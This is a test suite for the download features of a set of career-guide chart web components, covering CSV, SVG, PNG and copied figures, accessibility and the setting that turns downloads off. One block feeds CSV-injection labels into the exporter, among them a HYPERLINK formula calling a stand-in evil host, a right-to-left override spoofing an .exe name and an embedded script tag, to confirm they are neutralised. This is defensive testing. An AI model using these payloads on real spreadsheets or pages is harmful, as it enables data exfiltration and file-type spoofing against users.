/**
 * Downloads (issue 19): what a reader takes away from a chart. The CSV of the bundled guide
 * against the seed page it transcribes; hostile labels neutralised in the CSV and the copied
 * text; the SVG a standalone XML document with the chart's words and colors; the PNG twice the
 * drawn size and not blank; the Download button's names, keyboard and axe; and the switch that
 * turns downloads off, per element, per page and through <career-guide>.
 */
import { expect, waitUntil } from '@open-wc/testing';
import '../src/salary/salary.js';
import '../src/tiers/tiers.js';
import '../src/day/day.js';
import '../src/demand/demand.js';
import '../src/facts/facts.js';
import '../src/balance/balance.js';
import '../src/skills/skills.js';
import '../src/guide/guide.js';
import { configureWidgets } from '../src/data/config.js';
import { BALANCE_RATINGS, DEMAND_LEVELS, STRESS_LEVELS } from '../src/contract/schema.js';
import { cellText, fileName, toCsv } from '../src/export/figures.js';
import type { GuideElement } from '../src/element/guide-element.js';
import { sampleGuide } from './support/guides.js';
import { mount, settled, shadow } from './support/dom.js';
import { catchDownloads, choose, downloadButtons, fakeClipboard, imageStats, parseCsv, pixelsOf } from './support/downloads.js';
import { computeAccessibleName } from 'dom-accessibility-api';

/** The seed page's lines, its encoding artifacts repaired (see test/seed.test.ts). */
const seedLines = (await (await fetch('/test/fixtures/operations-engineer.seed.txt')).text())
  .replaceAll('β€”', '—')
  .split('\n')
  .map((line) => line.trim());

/** `$79,000` or `79,000` as a number. */
const amount = (text: string) => Number(text.replace(/[$,+]/g, ''));

/** The first line with words after `line` in the seed (its first from `from` on). */
const after = (line: string, from = 0) => seedLines.slice(seedLines.indexOf(line, from) + 1).find(Boolean)!;

async function drawn<T extends GuideElement>(tag: string, guide: unknown = sampleGuide(), width = 720): Promise<T> {
  return settled((await mount(tag, width, (element) => (element.data = guide))) as unknown as T);
}

let downloads: ReturnType<typeof catchDownloads>;
beforeEach(() => (downloads = catchDownloads()));
afterEach(() => {
  downloads.stop();
  configureWidgets({ downloads: undefined });
});

async function csvOf(element: GuideElement): Promise<{ name: string; records: string[][]; text: string }> {
  await choose(element, 'csv');
  const file = await downloads.next();
  const bytes = new Uint8Array(await file.blob.arrayBuffer());
  // UTF-8 with a byte order mark, for spreadsheet programs.
  expect([...bytes.slice(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1);
  expect(file.blob.type).to.match(/^text\/csv/);
  return { name: file.name, records: parseCsv(text), text };
}

describe('the CSV of the bundled guide', () => {
  it('has the seed page’s salary figures, numbers in machine form, currency and period apart', async () => {
    const { name, records } = await csvOf(await drawn('career-salary'));
    expect(name).to.equal('operations-engineer-salary.csv');
    const [low, high] = seedLines.find((line) => /^[\d,]+—[\d,]+$/.test(line))!.split('—').map(amount);
    expect(seedLines.some((line) => line.endsWith('Annual Salary (US, USD)')), 'in US dollars a year').to.equal(true);
    const median = amount(seedLines.find((line) => line.startsWith('Median: '))!.slice('Median: '.length));
    const levels = ['Entry-Level', 'Mid-Level', 'Senior-Level'].map((level) => [level, amount(after(level))] as const);
    const top = /^Top (\d+)% .* from (\$[\d,]+)\+/.exec(seedLines.find((line) => line.startsWith('Top '))!)!;
    const row = (label: string, from: number, to: number | '') => [label, String(from), String(to), 'USD', 'year'];
    expect(records).to.deep.equal([
      ['Figure', 'From', 'To', 'Currency', 'Period'],
      row('Range (typical range)', low!, high!),
      row('Median', median, median),
      ...levels.map(([level, pay]) => row(level, pay, pay)),
      // Open-ended: no upper bound.
      row(`Top ${top[1]}%`, amount(top[2]!), ''),
    ]);
  });

  it('has the seed page’s career tiers and their years', async () => {
    const { name, records } = await csvOf(await drawn('career-tiers'));
    expect(name).to.equal('operations-engineer-tiers.csv');
    const tiers = seedLines
      .flatMap((line, index) => (line.startsWith('Experience: ') ? [{ title: seedLines[index - 2]!, years: line.slice('Experience: '.length) }] : []))
      .map(({ title, years }) => {
        const [from, to] = years.replace(' years', '').split(/-|\+/);
        return [title, from!, to ?? ''];
      });
    expect(records[0]).to.deep.equal(['Tier', 'From', 'To', 'Unit', 'Level', 'Salary', 'Currency', 'Period', 'What the work is']);
    expect(records.slice(1).map((record) => record.slice(0, 3))).to.deep.equal(tiers);
    // Pay of the tier's salary level, as the salary chart has it.
    expect(records.slice(1).map((record) => record.slice(3, 8))).to.deep.equal([
      ['years', 'Entry-Level', '79000', 'USD', 'year'],
      ['years', 'Mid-Level', '100000', 'USD', 'year'],
      ['years', 'Senior-Level', '121000', 'USD', 'year'],
      ['years', '', '', '', ''],
    ]);
    for (const record of records.slice(1, 4)) expect(seedLines, 'summary').to.include(record[8]);
  });

  it('has the seed page’s day, in 24-hour times', async () => {
    const { records } = await csvOf(await drawn('career-day'));
    const blocks = seedLines.flatMap((line) => {
      const block = /^(\w+) \((\d+):(\d\d) (AM|PM) - (\d+):(\d\d) (AM|PM)\)$/.exec(line);
      if (!block) return [];
      const hours = (hour: string, minutes: string, half: string) => `${String((Number(hour) % 12) + (half === 'PM' ? 12 : 0)).padStart(2, '0')}:${minutes}`;
      return [[block[1]!, hours(block[2]!, block[3]!, block[4]!), hours(block[5]!, block[6]!, block[7]!)]];
    });
    expect(blocks).to.have.length(3);
    expect(records[0]).to.deep.equal(['Block', 'From', 'To', 'Focus', 'Tasks']);
    expect(records.slice(1).map((record) => record.slice(0, 3))).to.deep.equal(blocks);
    expect(records.slice(1).map((record) => `Focus: ${record[3]}`)).to.deep.equal(blocks.map(([label]) => after(seedLines.find((line) => line.startsWith(`${label} (`))!)));
    // The tasks, sentences each, read as sentences: "… dashboards. Analyze …", not "dashboards.; Analyze".
    expect(records.slice(1).map((record) => record[4])).to.deep.equal(sampleGuide().day!.blocks.map((block) => block.tasks!.join(' ')));
  });

  it('has the seed page’s market demand: its level on the scale and the growth rate', async () => {
    const { name, records } = await csvOf(await drawn('career-demand'));
    expect(name).to.equal('operations-engineer-demand.csv');
    // The gauge's end labels, then the level in words.
    const level = after('High', seedLines.findIndex((line) => line.endsWith('Market Demand'))).toLowerCase();
    const growth = /^Growth Rate: (\d+)%$/.exec(seedLines.find((line) => line.startsWith('Growth Rate: '))!)![1]!;
    expect(records).to.deep.equal([
      ['Figure', 'Value', 'Unit', 'Position', 'Out of'],
      ['Market demand', level, '', String(DEMAND_LEVELS.indexOf(level as 'high') + 1), String(DEMAND_LEVELS.length)],
      ['Projected growth', growth, 'percent', '', ''],
    ]);
  });

  it('has the seed page’s headline facts, each in the columns of its kind', async () => {
    const element = await drawn('career-facts');
    const { name, records } = await csvOf(element);
    expect(name).to.equal('operations-engineer-facts.csv');
    // The tiles' labels, written under their figures in lower case, head their rows capitalised.
    const labels = [...shadow(element).querySelectorAll('.term')].map((term) => term.textContent.trim()).map((label) => label[0]!.toUpperCase() + label.slice(1));
    expect(labels).to.include('Median salary');
    const [growth, median] = [seedLines[4]!, seedLines[8]!];
    const status = seedLines.find((line) => line.startsWith('Status: '))!.slice('Status: '.length);
    const source = seedLines.find((line) => line.startsWith('Source: ') && line.includes('Statistics'))!.slice('Source: '.length);
    expect(records).to.deep.equal([
      ['Figure', 'Value', 'Unit', 'Currency', 'Period', 'Source'],
      [labels[0]!, String(parseFloat(growth)), 'percent', '', '', ''],
      [labels[1]!, String(amount(median)), '', 'USD', 'year', ''],
      [labels[2]!, String(seedLines.includes('remote-friendly')), '', '', '', ''],
      [labels[3]!, status, '', '', '', source],
    ]);
  });

  it('has the seed page’s stress and balance, on their scales', async () => {
    const { name, records } = await csvOf(await drawn('career-balance'));
    expect(name).to.equal('operations-engineer-balance.csv');
    const rating = (prefix: string) => seedLines.find((line) => line.startsWith(prefix))!.slice(prefix.length).toLowerCase().replaceAll(' ', '-');
    const [stress, balance] = [rating('Stress Level: '), rating('Balance Rating: ')];
    expect(records).to.deep.equal([
      ['Figure', 'Value', 'Position', 'Out of'],
      ['Stress level', stress, String(STRESS_LEVELS.indexOf(stress as 'high') + 1), String(STRESS_LEVELS.length)],
      ['Work-life balance', balance, String(BALANCE_RATINGS.indexOf(balance as 'good') + 1), String(BALANCE_RATINGS.length)],
    ]);
  });

  it('has the seed page’s skill map, a row per skill', async () => {
    const { name, records } = await csvOf(await drawn('career-skills'));
    expect(name).to.equal('operations-engineer-skills.csv');
    // From "Skill Map" to "Pros & Cons": a level's title two lines before its first bullet.
    const map = seedLines.slice(seedLines.indexOf('Skill Map'), seedLines.findIndex((line) => line.startsWith('Pros & Cons')));
    const ids = sampleGuide().skillMap!.levels.map((level) => level.id);
    let title = '';
    const rows = map.flatMap((line, index) => {
      if (!line.startsWith('• ')) return [];
      if (!map[index - 1]!.startsWith('• ')) title = map[index - 4]!;
      return [[title, line.slice(2)]];
    });
    expect(records[0]).to.deep.equal(['Level id', 'Level', 'Skill']);
    expect(records.slice(1).map((record) => record.slice(1))).to.deep.equal(rows);
    const titles = [...new Set(rows.map(([level]) => level))];
    expect(records.slice(1).map((record) => record[0])).to.deep.equal(rows.map(([level]) => ids[titles.indexOf(level)]));
  });

  it('is the table the chart shows, in the reader’s language', async () => {
    const element = await drawn('career-salary');
    element.locale = 'de-DE';
    await settled(element);
    const { records } = await csvOf(element);
    expect(records[0]).to.deep.equal(['Kennzahl', 'Von', 'Bis', 'Währung', 'Zeitraum']);
    const table = [...shadow(element).querySelectorAll('tbody th')].map((cell) => cell.textContent.trim());
    expect(records.slice(1).map((record) => record[0])).to.deep.equal(table);
  });
});

describe('hostile labels in the downloaded figures', () => {
  const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+SUM(1+1)', '-2+3', '@cmd', '\tTAB', '\u202Egnp.exe', 'fine, "quoted"\r\nlines'];
  const guide = () => {
    const sample = sampleGuide();
    sample.salary!.levels = hostile.map((label, index) => ({ id: `level-${index}`, label, amount: 1000 * (index + 1) }));
    return sample;
  };

  it('neutralises formulas and drops bidi controls in the CSV', async () => {
    const { records } = await csvOf(await drawn('career-salary', guide()));
    const labels = records.slice(1).map((record) => record[0]!);
    expect(labels).to.include.members([
      `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
      "'+SUM(1+1)",
      "'-2+3",
      "'@cmd",
      "'\tTAB",
      'gnp.exe',
      'fine, "quoted"\r\nlines',
    ]);
    for (const label of labels) {
      expect(label, label).not.to.match(/^[=+\-@\t\r]/);
      expect(label, label).not.to.match(/[\u202a-\u202e\u2066-\u2069]/);
    }
  });

  it('neutralises them where the guide’s words are the figures: skills, levels and the outlook', async () => {
    const sample = sampleGuide();
    sample.skillMap!.levels[0]!.title = hostile[0]!;
    sample.skillMap!.levels[0]!.skills = hostile;
    sample.outlook!.status = hostile[1]!;
    const skills = (await csvOf(await drawn('career-skills', sample))).records.slice(1);
    const facts = (await csvOf(await drawn('career-facts', sample))).records.slice(1);
    const cells = [...skills.flatMap((record) => record.slice(1)), facts.at(-1)![1]!];
    expect(cells).to.include.members([`'=HYPERLINK("https://evil.example/?"&A1,"Click")`, "'+SUM(1+1)", "'-2+3", "'@cmd", 'gnp.exe']);
    for (const cell of cells) expect(cell, cell).not.to.match(/^[=+\-@\t\r]|[\u202a-\u202e\u2066-\u2069]/);
  });

  it('neutralises them in the copied text too, one row a line', async () => {
    const element = await drawn('career-salary', guide());
    const clipboard = fakeClipboard();
    try {
      await choose(element, 'copy');
      await waitUntil(() => clipboard.texts.length > 0, 'nothing was copied');
    } finally {
      clipboard.restore();
    }
    const lines = clipboard.texts[0]!.split('\n').map((line) => line.split('\t'));
    expect(lines[0]).to.deep.equal(['Figure', 'From', 'To', 'Currency', 'Period']);
    for (const [label] of lines.slice(1)) expect(label, label).not.to.match(/^[=+\-@\t\r]|[\u202a-\u202e]/);
    expect(lines.every((line) => line.length === 5), 'a tab or line break in a label stays in its cell').to.equal(true);
    await waitUntil(() => shadow(element).querySelector('.download-note')?.textContent === 'Figures copied to the clipboard.', 'no confirmation');
  });

  it('says so when the browser refuses the clipboard', async () => {
    const element = await drawn('career-salary');
    const clipboard = fakeClipboard({ refuse: true });
    try {
      await choose(element, 'copy');
      const note = () => shadow(element).querySelector('[role="status"].download-note');
      await waitUntil(() => note()?.textContent === 'The browser did not allow copying. Download the data (CSV) instead.', 'no message');
    } finally {
      clipboard.restore();
    }
  });

  it('starts copying in the click itself, as Safari requires, though the text comes later', async () => {
    const element = await drawn('career-salary');
    // The export code, loaded before: even then the text is made after a microtask, out of the click.
    await import('../src/export/export.js');
    const clipboard = fakeClipboard();
    try {
      await choose(element, 'copy', () => clipboard.clickEnded());
      await waitUntil(() => clipboard.texts.length > 0, 'nothing was copied');
    } finally {
      clipboard.restore();
    }
    expect(clipboard.inClick, 'the clipboard was written to during the click').to.deep.equal([true]);
    expect(clipboard.texts[0]!.split('\n')[0]).to.equal('Figure\tFrom\tTo\tCurrency\tPeriod');
    await waitUntil(() => shadow(element).querySelector('.download-note')?.textContent === 'Figures copied to the clipboard.', 'no confirmation');
  });

  it('keeps numbers as numbers and file names to [a-z0-9-]', () => {
    expect(cellText(-5)).to.equal('-5');
    expect(cellText(0.25)).to.equal('0.25');
    expect(cellText(null)).to.equal('');
    expect(toCsv({ headers: ['a'], rows: [[-5], ['-5']] })).to.equal("\ufeffa\r\n-5\r\n'-5\r\n");
    expect(fileName('../Évil guide', 'salary', 'csv')).to.equal('vil-guide-salary.csv');
    expect(fileName(undefined, 'tiers', 'png')).to.equal('tiers.png');
  });
});

/** The visible words of the chart's drawing, in document order. */
function chartWords(element: GuideElement): string[] {
  return [...shadow(element).querySelectorAll('svg[part="chart"] text')].filter((node) => getComputedStyle(node).display !== 'none').map((node) => node.textContent.trim());
}

/** The text of `root` a reader sees: its text nodes outside boxes hidden or of a pixel or less. */
function seenText(root: Element): string {
  const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
  const texts: string[] = [];
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    const box = node.parentElement!.getBoundingClientRect();
    if (box.width > 1 && box.height > 1 && node.parentElement!.checkVisibility()) texts.push(node.textContent!);
  }
  return texts.join(' ');
}

/**
 * Opens the chart's download choices with `toggle` and checks them: expanded, each choice named
 * by what it downloads and the chart's caption, and axe clean.
 */
async function expectChoicesOpened(element: GuideElement, toggle: HTMLButtonElement): Promise<void> {
  toggle.click();
  await element.updateComplete;
  expect(toggle.getAttribute('aria-expanded')).to.equal('true');
  const root = shadow(element);
  const title = root.querySelector('.title')!.textContent;
  const names = [...root.querySelectorAll<HTMLElement>('[data-download]')].map((button) => computeAccessibleName(button));
  expect(names).to.deep.equal(['Download data (CSV)', 'Download image (SVG)', 'Download image (PNG)', 'Copy figures'].map((words) => `${words} ${title}`));
  await expect(element, 'axe, open').to.be.accessible();
}

async function svgOf(element: GuideElement): Promise<Document> {
  await choose(element, 'svg');
  const file = await downloads.next();
  expect(file.blob.type).to.match(/^image\/svg\+xml/);
  const parsed = new DOMParser().parseFromString(await file.blob.text(), 'image/svg+xml');
  expect(parsed.querySelector('parsererror'), 'parses as XML').to.equal(null);
  return parsed;
}

describe('the SVG', () => {
  const withSource = () => {
    const guide = sampleGuide();
    guide.salary!.source = { name: 'U.S. Bureau of Labor Statistics <script>' };
    guide.salary!.asOf = '2024-05';
    return guide;
  };

  it('is a standalone document with the chart’s words, caption and source as text', async () => {
    const element = await drawn('career-salary', withSource());
    const svg = await svgOf(element);
    const root = svg.documentElement;
    expect(root.namespaceURI).to.equal('http://www.w3.org/2000/svg');
    expect(root.localName).to.equal('svg');
    expect(Number(root.getAttribute('width'))).to.be.greaterThan(700);
    expect(root.getAttribute('viewBox')).to.match(/^0 0 \d+ \d+$/);
    const title = shadow(element).querySelector('.title')!.textContent;
    expect(root.querySelector('title')?.textContent).to.equal(title);
    const words = [...root.querySelectorAll('text')].map((node) => node.textContent.trim());
    expect(words.slice(0, 2).join(' ')).to.equal(`${title} ${shadow(element).querySelector('.subtitle')!.textContent}`);
    // Every word the chart draws, in the same order.
    const drawnWords = chartWords(element);
    expect(drawnWords.length).to.be.greaterThan(10);
    const start = words.indexOf(drawnWords[0]!);
    expect(words.slice(start, start + drawnWords.length)).to.deep.equal(drawnWords);
    // The source, as the chart's notes say it: escaped text, not markup.
    expect(words.join(' ')).to.contain('Source: U.S. Bureau of Labor Statistics <script> · as of');
    expect(root.querySelector('script')).to.equal(null);
  });

  it('has its styles inlined, in the theme it is drawn in', async () => {
    for (const theme of ['light', 'dark'] as const) {
      const element = await drawn('career-salary');
      element.theme = theme;
      await settled(element);
      const svg = (await svgOf(element)).documentElement;
      expect(svg.querySelector('style'), 'no stylesheet').to.equal(null);
      expect(svg.querySelectorAll('[class], [style]'), 'no classes or style attributes').to.have.length(0);
      // Every text has a font and a color, its own or its drawing's.
      for (const node of svg.querySelectorAll('text')) {
        expect(node.closest('[font-family]'), 'font').not.to.equal(null);
        expect(node.closest('[fill]')?.getAttribute('fill'), 'color').to.match(/^rgb/);
      }
      // The level bars' fill and the text color as the page shows them.
      const bar = shadow(element).querySelector('.mark-level .bar')!;
      const levelBars = [...svg.querySelectorAll('path')].filter((path) => path.getAttribute('d') === bar.getAttribute('d'));
      expect(levelBars.map((path) => path.getAttribute('fill'))).to.deep.equal([getComputedStyle(bar).fill]);
      const background = svg.querySelector(':scope > rect')!.getAttribute('fill');
      expect(background, `${theme} surface`).to.equal(theme === 'dark' ? getComputedStyle(element).backgroundColor : 'rgb(255, 255, 255)');
      expect(background === 'rgb(255, 255, 255)').to.equal(theme === 'light');
      element.parentElement!.remove();
    }
  });

  it('leaves out the current tier’s band, which only the panel beside the chart explains', async () => {
    const element = await drawn('career-tiers');
    const band = shadow(element).querySelector('.is-current .row')!;
    expect(getComputedStyle(band).opacity, 'the band is drawn on the page').to.equal('1');
    const svg = (await svgOf(element)).documentElement;
    const geometry = (rect: Element) => ['x', 'y', 'width', 'height'].map((name) => rect.getAttribute(name)).join(' ');
    const rects = [...svg.querySelectorAll('rect')].map(geometry);
    expect(rects).not.to.include(geometry(band));
  });

  for (const tag of ['career-demand', 'career-facts', 'career-balance', 'career-skills']) {
    it(`of <${tag}>, drawn in HTML, has every word of the chart and its inner drawings`, async () => {
      const element = await drawn(tag);
      const chart = shadow(element).querySelector<HTMLElement>('[part~="chart"]')!;
      const svg = (await svgOf(element)).documentElement;
      const words = [...svg.querySelectorAll('text')].flatMap((node) => node.textContent.split(/\s+/)).filter(Boolean);
      // The words a reader sees in the chart, in the order they are read: not those only for
      // screen readers (a box of a pixel, clipped), such as a skill level's "Level 1 of 3:".
      const seen = seenText(chart).split(/\s+/).filter(Boolean);
      expect(seen.length).to.be.greaterThan(5);
      let found = 0;
      for (const word of words) if (word === seen[found]) found += 1;
      expect(seen.slice(found), 'words of the chart missing from the image, in order').to.deep.equal([]);
      // Each inner drawing (the gauge, a glyph, a meter's scale, the links) is copied with its shapes.
      const inner = [...chart.querySelectorAll('svg')].filter((drawing) => drawing.getBoundingClientRect().width > 0);
      expect(inner.length, 'inner drawings').to.be.greaterThan(0);
      const shapes = (root: Element) => root.querySelectorAll('path, rect, circle, line').length;
      expect(shapes(svg)).to.be.at.least(inner.reduce((sum, drawing) => sum + shapes(drawing), 0));
      // Not a rendering of HTML inside the SVG, which few readers and no canvas under the policy draw.
      expect(svg.querySelector('foreignObject')).to.equal(null);
    });
  }

  it('of the facts draws each tile’s border where the tile is', async () => {
    const element = await drawn('career-facts');
    const chart = shadow(element).querySelector('[part~="chart"]')!.getBoundingClientRect();
    const svg = (await svgOf(element)).documentElement;
    const framed = [...svg.querySelectorAll('rect[stroke]')];
    const tiles = [...shadow(element).querySelectorAll('[part="tile"]')].map((tile) => tile.getBoundingClientRect());
    expect(tiles).to.have.length(4);
    expect(framed).to.have.length(tiles.length);
    // The same widths and the same gaps between them, 1px borders drawn half a pixel inside.
    const lefts = framed.map((rect) => Number(rect.getAttribute('x')));
    expect(lefts.map((left) => Math.round(left - lefts[0]!))).to.deep.equal(tiles.map((tile) => Math.round(tile.left - tiles[0]!.left)));
    expect(framed.map((rect) => Math.round(Number(rect.getAttribute('width')) + 1))).to.deep.equal(tiles.map((tile) => Math.round(tile.width)));
    expect(Math.round(tiles[0]!.left - chart.left)).to.equal(Math.round(lefts[0]! - 0.5 - 16));
  });

  it('is written at the designed size for a reader’s larger text, as its layout placed it', async () => {
    for (const tag of ['career-salary', 'career-facts']) {
      const element = await mount(tag, 720, (each) => {
        each.data = sampleGuide();
        each.style.fontSize = '24px';
      });
      await settled(element);
      const content = shadow(element).querySelector('.content')!;
      const scale = parseFloat(getComputedStyle(content).getPropertyValue('--_scale'));
      expect(scale, `${tag} drawn larger`).to.be.greaterThan(1.4);
      const svg = (await svgOf(element)).documentElement;
      const width = Number(svg.getAttribute('width'));
      const chart = shadow(element).querySelector('[part~="chart"]')!;
      // The drawing as wide as designed (its layout width, which the page zooms), with the
      // frame's padding either side.
      const designed = chart instanceof SVGSVGElement ? Number(chart.getAttribute('width')) : (chart as HTMLElement).offsetWidth;
      expect(width, tag).to.be.closeTo(designed + 32, 1);
      for (const group of svg.querySelectorAll('g[transform]')) expect(group.getAttribute('transform'), `${tag}: a drawing scaled`).not.to.contain(`scale(${scale}`);
      if (tag === 'career-facts') {
        const tiles = [...shadow(element).querySelectorAll<HTMLElement>('[part="tile"]')].map((tile) => tile.offsetWidth);
        const framed = [...svg.querySelectorAll('rect[stroke]')].map((rect) => Number(rect.getAttribute('width')) + 1);
        expect(framed).to.have.length(tiles.length);
        // offsetWidth is whole pixels.
        framed.forEach((frame, index) => expect(frame, `tile ${index + 1}`).to.be.closeTo(tiles[index]!, 1));
      }
      element.parentElement!.remove();
    }
  });

  it('leaves out what is not drawn: focus rings and selection frames', async () => {
    const svg = (await svgOf(await drawn('career-tiers'))).documentElement;
    expect(svg.querySelectorAll('[role], [tabindex], [aria-label]')).to.have.length(0);
    // The open-ended tier's fade, with its stops' colors.
    const stops = [...svg.querySelectorAll('linearGradient stop')];
    expect(stops.length).to.be.greaterThan(0);
    for (const stop of stops) expect(stop.getAttribute('stop-color')).to.match(/^rgba?\(/);
  });
});

describe('the PNG', () => {
  for (const tag of ['career-salary', 'career-tiers', 'career-day', 'career-demand', 'career-facts', 'career-balance', 'career-skills']) {
    it(`of <${tag}> is twice the SVG’s size, and drawn`, async () => {
      const element = await drawn(tag);
      const svg = (await svgOf(element)).documentElement;
      await choose(element, 'png');
      const file = await downloads.next();
      expect(file.name).to.equal(`operations-engineer-${tag.slice(7)}.png`);
      expect(file.blob.type).to.equal('image/png');
      const image = await imageStats(file.blob);
      expect([image.width, image.height]).to.deep.equal([2 * Number(svg.getAttribute('width')), 2 * Number(svg.getAttribute('height'))]);
      // Not blank: an opaque background, and many pixels of other colors (the marks and the words).
      expect(image.background >>> 24, 'opaque').to.equal(255);
      expect(image.inked, 'pixels other than the background').to.be.greaterThan(0.02);
      expect(image.colors, 'colors').to.be.greaterThan(20);
    });
  }

  it('paints the marks where the SVG has them', async () => {
    const element = await drawn('career-salary');
    const svg = (await svgOf(element)).documentElement;
    await choose(element, 'png');
    const pixels = await pixelsOf((await downloads.next()).blob);
    // The middle of the first level bar, in the image's coordinates: the nested drawing's offset plus the bar's box.
    const [, dx, dy] = /^translate\((\S+) (\S+)\)$/.exec(svg.querySelector(':scope > g')!.getAttribute('transform')!)!.map(Number);
    const bar = shadow(element).querySelector<SVGGraphicsElement>('.mark-level .bar')!.getBBox();
    const x = 2 * (dx! + bar.x + bar.width / 2);
    const y = 2 * (dy! + bar.y + bar.height / 2);
    const at = (Math.round(y) * pixels.width + Math.round(x)) * 4;
    const painted = `rgb(${pixels.data[at]}, ${pixels.data[at + 1]}, ${pixels.data[at + 2]})`;
    expect(painted).to.equal(getComputedStyle(shadow(element).querySelector('.mark-level .bar')!).fill);
  });
});

describe('the PNG of a chart drawn in HTML', () => {
  it('paints an inner drawing’s marks where the page has them', async () => {
    const element = await drawn('career-balance');
    const svg = (await svgOf(element)).documentElement;
    await choose(element, 'png');
    const pixels = await pixelsOf((await downloads.next()).blob);
    // The first meter's first segment: its scale's group is moved to where the scale is drawn.
    const segment = shadow(element).querySelector<SVGGraphicsElement>('.segment.filled')!;
    const scale = [...svg.querySelectorAll('g[transform]')].find((group) => group.querySelector('rect[rx="3"]'))!;
    const [, dx, dy] = /^translate\((\S+) (\S+)\)$/.exec(scale.getAttribute('transform')!)!.map(Number);
    const box = segment.getBBox();
    const at = (Math.round(2 * (dy! + box.y + box.height / 2)) * pixels.width + Math.round(2 * (dx! + box.x + box.width / 2))) * 4;
    expect(`rgb(${pixels.data[at]}, ${pixels.data[at + 1]}, ${pixels.data[at + 2]})`).to.equal(getComputedStyle(segment).fill);
  });
});

describe('the Download button', () => {
  it('names each choice by what it downloads and from which chart', async () => {
    const element = await drawn('career-salary');
    const root = shadow(element);
    const { toggle } = downloadButtons(root);
    expect(toggle?.getAttribute('aria-expanded')).to.equal('false');
    expect(root.querySelector('.downloads')?.hasAttribute('hidden')).to.equal(true);
    await expect(element, 'axe, closed').to.be.accessible();
    await expectChoicesOpened(element, toggle!);
  });

  it('is reached by keyboard after “Show as table”, and opens with Enter', async () => {
    const element = await drawn('career-salary');
    const root = shadow(element);
    const buttons = [...root.querySelectorAll<HTMLButtonElement>('button')].filter((button) => !button.closest('[hidden]'));
    expect(buttons.map((button) => button.getAttribute('part'))).to.deep.equal(['table-toggle', 'downloads-toggle']);
    // Buttons, in the tab order: none takes itself out of it.
    for (const button of buttons) expect(button.tabIndex).to.equal(0);
    const { toggle } = downloadButtons(root);
    toggle!.focus();
    expect(root.activeElement).to.equal(toggle);
  });

  it('keeps to the row beside “Show as table” when narrow: its glyph, its word in its name', async () => {
    for (const [locale, width] of [['en-US', 240], ['en-US', 320], ['de-DE', 320], ['es-ES', 240], ['fr-FR', 320]] as const) {
      const element = await mount('career-salary', width, (each) => {
        each.data = sampleGuide();
        each.locale = locale;
      });
      await settled(element);
      const row = shadow(element).querySelector('.table-toggle')!;
      expect(row.scrollWidth, `${locale} at ${width}px: the row's width`).to.be.at.most(row.clientWidth);
      const { toggle } = downloadButtons(shadow(element));
      expect(computeAccessibleName(toggle!), `${locale} at ${width}px`).to.equal({ 'en-US': 'Download', 'de-DE': 'Herunterladen', 'es-ES': 'Descargar', 'fr-FR': 'Télécharger' }[locale]);
      element.parentElement!.remove();
    }
  });

  // Charts whose figures are all written out: Download alone on their row, the figures only (their drawing is not one SVG).
  for (const tag of ['career-demand', 'career-facts', 'career-balance', 'career-skills']) {
    it(`on <${tag}> stands alone on its row, names its choices, and passes axe open and closed`, async () => {
      const element = await drawn(tag);
      const root = shadow(element);
      const row = root.querySelector('.table-toggle')!;
      const { toggle } = downloadButtons(root);
      expect([...row.querySelectorAll('button')]).to.deep.equal([toggle]);
      expect(root.querySelector('[part="table-toggle"]'), 'no Show as table').to.equal(null);
      expect(toggle!.tabIndex, 'in the tab order').to.equal(0);
      expect(computeAccessibleName(toggle!)).to.equal('Download');
      await expect(element, 'axe, closed').to.be.accessible();
      toggle!.focus();
      expect(root.activeElement).to.equal(toggle);
      await expectChoicesOpened(element, toggle!);
    });

    it(`on <${tag}> copies the figures as the CSV has them`, async () => {
      const element = await drawn(tag);
      const { records } = await csvOf(element);
      const clipboard = fakeClipboard();
      try {
        await choose(element, 'copy');
        await waitUntil(() => clipboard.texts.length > 0, 'nothing was copied');
      } finally {
        clipboard.restore();
      }
      expect(clipboard.texts[0]!.split('\n').map((line) => line.split('\t'))).to.deep.equal(records);
    });

    it(`on <${tag}> is off with downloads="off": no row at all`, async () => {
      const off = await mount(tag, 600, (element) => {
        element.data = sampleGuide();
        element.downloads = 'off';
      });
      await settled(off);
      expect(shadow(off).querySelector('.table-toggle')).to.equal(null);
      configureWidgets({ downloads: 'off' });
      expect(shadow(await drawn(tag)).querySelector('.table-toggle'), 'page-wide off').to.equal(null);
    });
  }

  it('is off with downloads="off", on the page by default, and back on per element', async () => {
    const off = await mount('career-salary', 600, (element) => {
      element.data = sampleGuide();
      element.downloads = 'off';
    });
    await settled(off);
    expect(downloadButtons(shadow(off)).toggle).to.equal(null);
    configureWidgets({ downloads: 'off' });
    const pageOff = await drawn('career-salary');
    expect(downloadButtons(shadow(pageOff)).toggle, 'page-wide off').to.equal(null);
    const backOn = await mount('career-tiers', 600, (element) => {
      element.data = sampleGuide();
      element.setAttribute('downloads', 'on');
    });
    await settled(backOn);
    expect(downloadButtons(shadow(backOn)).toggle, 'on for this element').not.to.equal(null);
  });

  it('is passed down by <career-guide> to its charts', async () => {
    const guide = await mount('career-guide', 900, (element) => {
      element.data = sampleGuide();
      element.setAttribute('downloads', 'off');
    });
    await settled(guide);
    const tags = ['career-salary', 'career-tiers', 'career-day', 'career-demand', 'career-facts', 'career-balance', 'career-skills'];
    const charts = tags.map((tag) => shadow(guide).querySelector<GuideElement>(tag)!);
    await Promise.all(charts.map((chart) => settled(chart)));
    expect(charts.map((chart) => chart.getAttribute('downloads'))).to.deep.equal(tags.map(() => 'off'));
    expect(charts.map((chart) => downloadButtons(shadow(chart)).toggle)).to.deep.equal(tags.map(() => null));
    guide.removeAttribute('downloads');
    await guide.updateComplete;
    await Promise.all(charts.map((chart) => chart.updateComplete));
    expect(charts.every((chart) => downloadButtons(shadow(chart)).toggle)).to.equal(true);
  });
});
